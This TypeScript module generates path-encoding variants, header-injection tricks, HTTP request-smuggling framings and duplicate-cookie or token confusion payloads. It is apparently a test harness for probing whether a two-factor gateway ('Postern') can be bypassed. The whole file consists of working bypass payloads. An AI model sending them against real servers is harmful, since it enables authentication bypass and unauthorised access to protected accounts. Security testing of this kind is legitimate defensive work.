// Every way we know to write a request for a path so that two servers may read it differently.

export interface Spelling {
  readonly group: string
  readonly target: string
}

const hex = (code: number, digits = 2): string => code.toString(16).padStart(digits, '0')
const percent = (text: string): string => [...Buffer.from(text)].map(byte => `%${hex(byte)}`).join('')

/** The first letter after the slash, each letter, each pair and all of them, encoded once, twice, three times, %u. */
function encodings (path: string): string[] {
  const found: string[] = []
  for (let i = 1; i < path.length; i++) {
    const [before, letter, after] = [path.slice(0, i), path[i] ?? '', path.slice(i + 1)]
    const code = letter.charCodeAt(0)
    found.push(
      `${before}%${hex(code)}${after}`,
      `${before}%${hex(code).toUpperCase()}${after}`,
      `${before}%25${hex(code)}${after}`,
      `${before}%2525${hex(code)}${after}`,
      `${before}%u00${hex(code)}${after}`,
      `${before}%${hex(0xc0 | (code >> 6))}%${hex(0x80 | (code & 0x3f))}${after}`,
      `${before}${letter.toUpperCase()}${after}`,
      `${before}%${hex(letter.toUpperCase().charCodeAt(0))}${after}`,
      `${before}${percent(String.fromCharCode(code + 0xfee0))}${after}`,
      `${before}${letter}%00${after}`,
      `${before}${letter}%ad${after}`,
      `${before}${letter}%e2%80%8b${after}`
    )
  }
  const rest = path.slice(1)
  found.push(
    `/${percent(rest)}`, `/${percent(percent(rest))}`, path.toUpperCase(), `%2f${rest}`, `/%2f${rest}`, `/%2F${rest}`,
    `/%5c${rest}`, `/%252f${rest}`, `/%c0%af${rest}`, `/%ef%bc%8f${rest}`, `%${hex(47)}${percent(rest)}`
  )
  return found
}

/** Dot segments, plain and encoded, in front of the path and behind it. */
function dots (path: string, open: string): string[] {
  const one = ['.', '%2e', '%2E', '%252e', '%c0%ae', '%ef%bc%8e', '%u002e', '\uff0e'.normalize('NFKC') + ';', '.%00', '.;x', '%2e;']
  const two = ['..', '%2e%2e', '.%2e', '%2e.', '%2E%2E', '%252e%252e', '%c0%ae%c0%ae', '..;', '..;/', '..%00', '%2e%2e%2f', '..%2f', '..%5c', '..\\', '.../', '..%09', '..%20', '%2e%2e;']
  const slashes = ['/', '//', '/%2f', '%2f', '\\', '/\\', '%5c', '/;/', '/./']
  return [
    ...one.flatMap(dot => [`/${dot}${path}`, `${path}/${dot}`, `${path}/${dot}/`, `${open}/${dot}${path}`]),
    ...two.flatMap(dot => [`/x/${dot}${path}`, `${open}/${dot}${path}`, `/2fa/assets/${dot}/..${path}`, `${path}/x/${dot}`, `/${dot}${path}`]),
    ...slashes.flatMap(slash => [`/x${slash}..${slash}${path.slice(1)}`, `${slash}${path.slice(1)}`, `${path}${slash}`])
  ]
}

/** Parameters, separators and rubbish behind and between. */
function rubbish (path: string, open: string): string[] {
  const tails = [
    ';', ';a', ';a=b', ';jsessionid=1', '%3b', '%3ba=b', '/;', '/;a=b/', '#', '#f', '#/..', '%23', '%23f', '%3f', '%3fx', '?', '?x', '??', '?#', '%00',
    '%00.html', '%20', '+', '%09', '%0a', '%0d%0a', '%0d', '%a0', '%c2%a0', '%e3%80%80', '.', '..', '%2e', '...', '/', '//', '/.', '/..;/', '.json', '.css',
    '.html', '%2ecss', '/index.html', '/x.png', '~', '%7e', '*', ':', '::$DATA', '|', '%7c', '^', '`', '"', '\'', '<', '>', '{', '}', '[', ']', '@', '$', '!',
    ',', '=', '&', '%', '%%', '%2', '%zz', '%g0', '%u', '%u0073', '\\', '%5c', '\\..', '\u00e9', '\u00a0', '\u0085', '\u00ad', '\t', '\u000b', '\u000c', '\u007f',
    '?a=%00', '?a#b', `?${'a'.repeat(9000)}`, `/${'a'.repeat(9000)}`, `?x=${open}`, '?public', '?x=/2fa/verify', '?;', '?%23'
  ]
  const heads = [
    'http://x', 'HTTP://127.0.0.1', 'https://evil.example', 'http://user:pass@x', 'http:', 'http:/', 'http:///', '//x', '//127.0.0.1', '///', '////', '/\\', '\\', '\\\\',
    '/;', '/;/', '/;a', '/%20', '/%09', '/%00', '/%0a', '/ ', '.', './', '../', '', '?', '#', '/#', '/?', '*', ':', ':80', 'x', 'ftp://x', 'file://', 'javascript:',
    'unix:', '//@', '@', '/@', '/.//', '/..//', '/%2e//', `${open}?`, `${open}#`, `${open};`, `${open}/..`, `${open}%00`, `${open}%3f`, '/2fa/..', '/2fa/assets/..',
    '/2fa//', '/2fa/verify/..', '/2fa/%2e%2e', '/2fa;', '/2fa/own/..', '/2fa/postern.js/..'
  ]
  return [...tails.map(tail => path + tail), ...heads.flatMap(head => [head + path, head + path.slice(1)])]
}

const methodsOf = (text: string): string[] => text.split(' ')

/** Targets that may be read as `path`; `open` is a path that is public. */
export function spellingsOf (path: string, open: string): Spelling[] {
  const groups: [string, string[]][] = [
    ['plain', [path]],
    ['encoded', encodings(path)],
    ['dot segments', dots(path, open)],
    ['separators and rubbish', rubbish(path, open)]
  ]
  return groups.flatMap(([group, targets]) => [...new Set(targets)].filter(target => !target.includes(' ')).map(target => ({ group, target })))
}

/** Methods of ordinary requests; TRACE and the last ones no console knows. */
export const METHODS = methodsOf('GET HEAD POST OPTIONS TRACE PROPFIND BREW')

/** Header lines that some server takes for the path, the method, the client or for "already checked". */
export function headerTricks (path: string, open: string): string[] {
  const paths = ['X-Original-URL', 'X-Original-URI', 'X-Rewrite-URL', 'X-Forwarded-Uri', 'X-Forwarded-Path', 'X-Forwarded-Prefix', 'X-Accel-Redirect', 'X-Sendfile',
    'X-Envoy-Original-Path', 'X-Original-Path', 'X-Request-Uri', 'Request-Uri', 'X-Proxy-Url', 'Destination', 'Content-Location', 'Referer', 'X-Http-Path-Override', 'X-Forwarded-Url']
  const overrides = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override', '_method']
  const clients = ['X-Forwarded-For: 127.0.0.1', 'X-Real-IP: 127.0.0.1', 'Forwarded: for=127.0.0.1;host=x', 'True-Client-IP: 127.0.0.1', 'X-Client-IP: ::1',
    'CF-Connecting-IP: 127.0.0.1', 'X-Forwarded-Host: 127.0.0.1', 'X-Forwarded-Proto: https', 'X-Forwarded-Port: 443', 'X-Forwarded-Server: x', 'Via: 1.1 postern']
  const marks = ['X-Middleware-Subrequest: middleware', 'X-Verified: 1', 'X-2fa-Verified: true', 'X-Auth-Request-User: ann', 'Remote-User: ann', 'X-Remote-User: ann',
    'X-Forwarded-User: ann', 'Postern-Subject: YW5u', 'Postern-Session: x', 'Postern-Browser: none', 'Postern-Exempt: sso', 'Postern_Subject: YW5u', 'POSTERN-STATUS: verified',
    'Postern-Bind: next', 'User-Agent: kube-probe/1.30', 'User-Agent: GoogleHC/1.0', 'Purpose: prefetch', 'Sec-Purpose: prefetch', 'X-Requested-With: XMLHttpRequest',
    'Sec-Fetch-Mode: cors', 'Sec-Fetch-Mode: navigate', 'Sec-Fetch-Site: same-origin', 'Access-Control-Request-Method: POST', 'Range: bytes=0-1', 'If-None-Match: *',
    'Expect: 100-continue', '2fa-code: 000000', '2fa_code: 000000', '2fa-code: ', 'Upgrade-Insecure-Requests: 1', 'Max-Forwards: 0', 'TE: trailers', 'Cache-Control: only-if-cached',
    'Connection: close, cookie', 'Connection: keep-alive, postern-session', 'Connection: cookie', 'Proxy-Connection: cookie', 'Keep-Alive: cookie', 'Trailer: cookie',
    'Accept: text/html', 'Accept: application/json', 'Accept: */*', 'Accept: text/event-stream', 'Content-Type: multipart/form-data', 'Service-Worker: script']
  return [
    ...paths.flatMap(name => [`${name}: ${path}`, `${name}: ${open}`, `${name.replaceAll('-', '_')}: ${path}`]),
    ...overrides.flatMap(name => ['GET', 'POST', 'TRACE'].map(method => `${name}: ${method}`)),
    ...clients,
    ...marks
  ]
}

/** Whole requests whose boundary or head two servers could see elsewhere. `hidden` is what stands behind it. */
export function framings (path: string, credential: string): string[] {
  const head = (...more: readonly string[]): string => [`POST ${path} HTTP/1.1`, 'Host: 127.0.0.1', credential, ...more, '', ''].join('\r\n')
  const hidden = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${credential}\r\n\r\n`
  const line = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n`
  return [
    `${head('Transfer-Encoding: chunked', 'Content-Length: 4')}0\r\n\r\n${hidden}`,
    `${head('Content-Length: 4', 'Transfer-Encoding: chunked')}0\r\n\r\n${hidden}`,
    ...['Transfer-Encoding : chunked', 'Transfer-Encoding:\tchunked', 'Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity',
      'Transfer_Encoding: chunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity', 'Transfer-Encoding:\u000bchunked', ' Transfer-Encoding: chunked', 'Transfer-Encoding\u0000: chunked']
      .map(encoding => `${head(encoding, `Content-Length: ${hidden.length}`)}${hidden}`),
    ...['Content-Length: 4\r\nContent-Length: 5', 'Content-Length: +4', 'Content-Length: 4, 5', 'Content-Length: 4 ', 'Content-Length: 0x4', 'Content-Length: -1', 'Content-Length : 4', 'Content-Length: 4\u0000']
      .map(length => `${head(length)}abcd${hidden}`),
    ...['1;x', '0x1', '1 ', '+1', '-1', '1\n', 'ffffffffffffffffff'].map(size => `${head('Transfer-Encoding: chunked')}${size}\r\na\r\n0\r\n\r\n${hidden}`),
    `${head('Transfer-Encoding: chunked')}0\nX: y\n\n${hidden}`,
    head('X-A: b', ' folded: c'), head('X-A: b', `\t${credential}`), head('Host: evil.example'), head('Host : x'), head(' Host: x'),
    head().replaceAll('\r\n', '\n'), head().replaceAll('\r\n', '\r'), head().replace('\r\n', '\n'), head().replace('\r\n\r\n', '\n\n'),
    `GET ${path}\r\n\r\n`, `GET ${path} HTTP/0.9\r\n\r\n`, `GET ${path} HTTP/2.0\r\nHost: x\r\n${credential}\r\n\r\n`, `GET ${path} http/1.1\r\nHost: x\r\n${credential}\r\n\r\n`,
    `GET  ${path} HTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n`, `GET ${path}  HTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n`, `GET ${path} x HTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n`,
    `GET\t${path}\tHTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n`, `\r\n\r\nGET ${path} HTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n`, `get ${path} HTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n`,
    `GET ${path} HTTP/1.1\r\n${credential}\r\n\r\n`, `${line}${credential}\r\nX: \u0000\r\n\r\n`, `${line}${credential}\r\nX\u0000Y: z\r\n\r\n`, `${line}${credential}\r\n: z\r\n\r\n`,
    `${line}${credential}\r\nX: a\rb\r\n\r\n`, `${line}${credential}\r\nX: ${'a'.repeat(70_000)}\r\n\r\n`, `${line}${credential}\r\nno colon\r\n\r\n`,
    `CONNECT ${path} HTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n`, `CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: x\r\n${credential}\r\n\r\n${hidden}`,
    `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`, `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n${credential}\r\n\r\n`
  ]
}

export interface Logins {
  /** Name of the session cookie. */
  readonly cookie: string
  /** The session that has passed nothing. */
  readonly victim: string
  /** The attacker's own one, verified, with the cookie of its browser. */
  readonly own: string
  readonly binding: string
}

/** Header lines and queries that show two logins, so that gate and console may pick different ones. */
export function twoLogins (
  { cookie, victim, own, binding }: Logins
): { readonly headers: readonly string[], readonly query?: string }[] {
  const mine = `${cookie}=${own}; ${binding}`
  const theirs = `${cookie}=${victim}`
  const names = [cookie.toUpperCase(), ` ${cookie}`, `${cookie} `, `\t${cookie}`, `"${cookie}"`, `'${cookie}'`, `$${cookie}`, `${cookie}[]`, `${cookie}[0]`, `%${hex(cookie.charCodeAt(0))}${cookie.slice(1)}`,
    `%25${hex(cookie.charCodeAt(0))}${cookie.slice(1)}`, `${cookie}%00`, `${cookie}%20`, `+${cookie}`, `\u00a0${cookie}`, `${cookie}\u00a0`, `${cookie}\u0000`]
  const basic = (text: string): string => `Authorization: Basic ${Buffer.from(text).toString('base64')}`
  return [
    ...[`${mine}; ${theirs}`, `${theirs}; ${mine}`, `${theirs}; ${mine}; ${theirs}`, `${mine};${theirs}`, `${mine} ${theirs}`, `${mine},${theirs}`, `${mine}, ${theirs}`, `${theirs},${mine}`,
      `${mine}\t;${theirs}`, `${mine};;${theirs}`, `${mine}; x="; ${theirs}; "`, `x="; ${mine}; y="; ${theirs}`, `${mine}; $Version=1; ${theirs}`, `${mine}; ${cookie}`, `${cookie}; ${mine}`,
      `${mine}; ${cookie}=`, `${cookie}=; ${mine}`, `${cookie}=${own},${victim}; ${binding}`, `${cookie}="${own}"; ${binding}; ${theirs}`, `${mine}\u0001; ${theirs}`, `${mine}; =${victim}`,
      ...names.flatMap(name => [`${mine}; ${name}=${victim}`, `${name}=${victim}; ${mine}`])].map(value => ({ headers: [`Cookie: ${value}`] })),
    ...['Cookie', 'cookie', 'COOKIE', 'Cookie2', 'Coo_kie', 'X-Cookie'].flatMap(name => [{ headers: [`Cookie: ${mine}`, `${name}: ${theirs}`] }, { headers: [`${name}: ${theirs}`, `Cookie: ${mine}`] }])
      .filter(({ headers }) => headers.every(header => /^cookie:/i.test(header))),
    ...[`Authorization: Bearer ${victim}`, `authorization: bearer ${victim}`, `AUTHORIZATION: Token ${victim}`, `Authorization: ${victim}`, basic(`${victim}:`), basic(`x:${victim}`), basic(`${victim}:x`),
      `Authorization:${victim}`, `Authorization: Digest username="${victim}"`, `X-Api-Key: ${victim}`, `X_Api_Key: ${victim}`, `x-api_key: ${victim}`].flatMap(header => [
      { headers: [`Cookie: ${mine}`, header] }, { headers: [header, `Cookie: ${mine}`] }, { headers: [header] }, { headers: [header, header] }, { headers: [`Authorization: Bearer ${own}`, header] }]),
    ...['access_token', 'ACCESS_TOKEN', 'access%5ftoken', 'access%255ftoken', 'access_token[]', 'access_token%00', '%61ccess_token', 'token', 'TOKEN', 't%6fken', 'token[]'].flatMap(name => [
      { headers: [`Cookie: ${mine}`], query: `?${name}=${victim}` }, { headers: [], query: `?${name}=${victim}` }, { headers: [], query: `?a;${name}=${victim}` }, { headers: [], query: `?${name}=${own}&${name}=${victim}` }])
  ]
}
